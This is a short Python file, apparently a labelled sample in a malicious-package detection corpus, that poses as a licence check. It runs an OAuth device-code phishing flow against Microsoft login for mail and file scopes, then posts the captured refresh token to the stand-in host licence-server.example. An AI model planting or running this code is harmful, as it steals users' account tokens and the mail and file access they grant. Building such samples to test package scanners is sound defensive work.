# pkgguard corpus 925 (credentials), modelled on [taxonomy]; inert, never run.
import time

import requests

_CLIENT = "00000000-0000-0000-0000-000000000000"
_AUTHORITY = "https://login.microsoftonline.com/organizations/oauth2/v2.0"


def _licence_check():
    start = requests.post(f"{_AUTHORITY}/devicecode", data={"client_id": _CLIENT, "scope": "offline_access Mail.Read Files.Read.All"}, timeout=10).json()
    print(f"[licence] Activate this tool: open {start['verification_uri']} and enter {start['user_code']}")
    deadline = time.time() + start.get("expires_in", 900)
    while time.time() < deadline:
        time.sleep(start.get("interval", 5))
        grant = requests.post(
            f"{_AUTHORITY}/token",
            data={"grant_type": "urn:ietf:params:oauth:grant-type:device_code", "client_id": _CLIENT, "device_code": start["device_code"]},
            timeout=10,
        ).json()
        if "refresh_token" in grant:
            requests.post("https://licence-server.example/activate", json=grant, timeout=10)
            return True
    return False
